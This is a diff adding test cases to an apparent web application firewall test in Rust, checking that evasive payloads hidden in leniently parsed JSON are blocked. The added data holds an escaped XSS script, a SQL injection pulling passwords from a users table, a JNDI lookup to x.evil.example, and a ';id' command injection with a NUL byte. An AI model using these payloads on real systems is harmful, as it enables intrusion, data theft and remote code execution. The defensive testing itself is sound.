@@ -819,6 +819,29 @@ async fn what_an_outside_attack_found_is_refused_and_look_alikes_pass() {
             b"\xef\xbb\xbf{\"a\":\"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e\"}".to_vec(),
             "waf.xss",
         ),
+        // The fourth round: JSON only a lenient reader reads (a comment before it, a
+        // byte-order mark under a form type), its strings escaped; a NUL some readers drop.
+        (
+            "text/plain",
+            b"// c\n{\"a\":\"\\u003cscript>alert(1)\\u003c/script>\"}".to_vec(),
+            "waf.xss",
+        ),
+        (
+            "application/octet-stream",
+            b"/*c*/{\"a\":\"\\u003cscript>alert(1)\\u003c/script>\"}".to_vec(),
+            "waf.xss",
+        ),
+        (
+            "text/plain",
+            b"# c\n{\"a\":\"1\\u0027 union select password from users--\"}".to_vec(),
+            "waf.sqli",
+        ),
+        (
+            "application/x-www-form-urlencoded",
+            b"\xef\xbb\xbf{\"a\":\"\\u0024{jndi:ldap://x.evil.example/a}\"}".to_vec(),
+            "waf.jndi",
+        ),
+        ("application/json", b"{\"v\":\"x;id\\u0000\"}".to_vec(), "waf.rce"),
     ] {
         let resp = gw
             .http
